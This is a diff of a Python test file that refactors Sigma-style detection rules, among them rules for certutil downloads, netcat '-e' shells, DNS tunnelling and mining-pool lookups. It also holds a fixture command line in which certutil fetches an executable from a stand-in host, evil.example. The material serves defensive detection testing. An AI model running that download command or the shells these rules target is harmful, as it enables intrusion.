@@ -14,7 +14,7 @@ from khien.lake.types import Fault
 
 RULE = """
 title: {title}
-id: {id}
+id: 7f0a1a52-6f3c-4a0e-9d55-0d6a1f0b7c{number}
 status: test
 logsource: {source}
 detection:
@@ -22,48 +22,33 @@ detection:
   condition: selection
 level: high
 """
-CERTUTIL = RULE.format(
-    title="certutil tải tệp", id="7f0a1a52-6f3c-4a0e-9d55-0d6a1f0b7c11",
-    source="{product: windows, category: process_creation}",
-    selection="{Image|endswith: '\\certutil.exe', CommandLine|contains|all: [urlcache, 'http'], "
-    "ParentImage|endswith: '\\cmd.exe'}",
-)  # fmt: skip
-BARE = CERTUTIL.replace(", ParentImage|endswith: '\\cmd.exe'", "")
-TELNET = RULE.format(
-    title="telnet ra ngoài", id="7f0a1a52-6f3c-4a0e-9d55-0d6a1f0b7c12", source="{category: firewall}",
-    selection="{dst_port: 23, action: accept, src_ip|cidr: 192.0.2.0/24}",
-)  # fmt: skip
+
+
+def _rule(number: int, title: str, source: str, selection: str) -> str:
+    return RULE.format(number=number, title=title, source=source, selection=selection)
+
+
+_CALLED = "Image|endswith: '\\certutil.exe', CommandLine|contains|all: [urlcache, http]"
+_PARENT = ", ParentImage|endswith: '\\cmd.exe'"
+CERTUTIL, BARE = (
+    _rule(11, "certutil tải tệp", "{product: windows, category: process_creation}", f"{{{_CALLED}{more}}}")
+    for more in (_PARENT, "")
+)
+_OUT = "{dst_port: 23, action: accept, src_ip|cidr: 192.0.2.0/24}"
+TELNET = _rule(12, "telnet ra ngoài", "{category: firewall}", _OUT)
 FORWARD = TELNET.replace("action: accept", "action: forward")
-FAILED = RULE.format(
-    title="đăng nhập sai từ ngoài", id="7f0a1a52-6f3c-4a0e-9d55-0d6a1f0b7c13",
-    source="{product: windows, service: security}",
-    selection="{EventID: 4625, LogonType: 3, TargetUserName: administrator, IpAddress|cidr: 203.0.113.0/24}",
-)  # fmt: skip
-POOL = RULE.format(
-    title="tên của bể đào", id="7f0a1a52-6f3c-4a0e-9d55-0d6a1f0b7c14", source="{product: zeek, service: dns}",
-    selection="{query|endswith: .evil.example, rejected: 'false', id.resp_p: 53}",
-)  # fmt: skip
-TUNNEL = RULE.format(
-    title="DNS đường hầm", id="7f0a1a52-6f3c-4a0e-9d55-0d6a1f0b7c15", source="{category: dns}",
-    selection="{query|contains: base64, record_type: TXT}",
-)  # fmt: skip
-CLEANUP = RULE.format(
-    title="thêm khóa VolumeCaches", id="7f0a1a52-6f3c-4a0e-9d55-0d6a1f0b7c16",
-    source="{product: windows, category: registry_add}",
-    selection="{EventType: CreateKey, TargetObject|contains: '\\VolumeCaches\\'}",
-)  # fmt: skip
-SSH = RULE.format(
-    title="sshd hỏng gói", id="7f0a1a52-6f3c-4a0e-9d55-0d6a1f0b7c17", source="{product: linux, service: sshd}",
-    selection="['Corrupted MAC on input']",
-)  # fmt: skip
-ALERT = RULE.format(
-    title="báo động về Mirai", id="7f0a1a52-6f3c-4a0e-9d55-0d6a1f0b7c18", source="{product: suricata, service: alert}",
-    selection="{alert.signature|contains: Mirai, dest_port: 23}",
-)  # fmt: skip
-NETCAT = RULE.format(
-    title="nc gọi về", id="7f0a1a52-6f3c-4a0e-9d55-0d6a1f0b7c19", source="{product: linux, category: process_creation}",
-    selection="{Image|endswith: /nc, CommandLine|contains: ' -e '}",
-)  # fmt: skip
+_FAILED = "{EventID: 4625, LogonType: 3, TargetUserName: administrator, IpAddress|cidr: 203.0.113.0/24}"
+FAILED = _rule(13, "đăng nhập sai từ ngoài", "{product: windows, service: security}", _FAILED)
+_POOL = "{query|endswith: .evil.example, rejected: 'false', id.resp_p: 53}"
+POOL = _rule(14, "tên của bể đào", "{product: zeek, service: dns}", _POOL)
+TUNNEL = _rule(15, "DNS đường hầm", "{category: dns}", "{query|contains: base64, record_type: TXT}")
+_CLEANUP = "{EventType: CreateKey, TargetObject|contains: '\\VolumeCaches\\'}"
+CLEANUP = _rule(16, "thêm khóa VolumeCaches", "{product: windows, category: registry_add}", _CLEANUP)
+SSH = _rule(17, "sshd hỏng gói", "{product: linux, service: sshd}", "['Corrupted MAC on input']")
+_MIRAI = "{alert.signature|contains: Mirai, dest_port: 23}"
+ALERT = _rule(18, "báo động về Mirai", "{product: suricata, service: alert}", _MIRAI)
+_NETCAT = "{Image|endswith: /nc, CommandLine|contains: ' -e '}"
+NETCAT = _rule(19, "nc gọi về", "{product: linux, category: process_creation}", _NETCAT)
 CALL = "certutil.exe -urlcache -f http://evil.example/a.exe C:\\a.exe"
 SYSTEM = "C:\\Windows\\System32\\"
 AT = 1772413201.0  # 2026-03-02 08:00:01 in Vietnam; each event a second after the one before
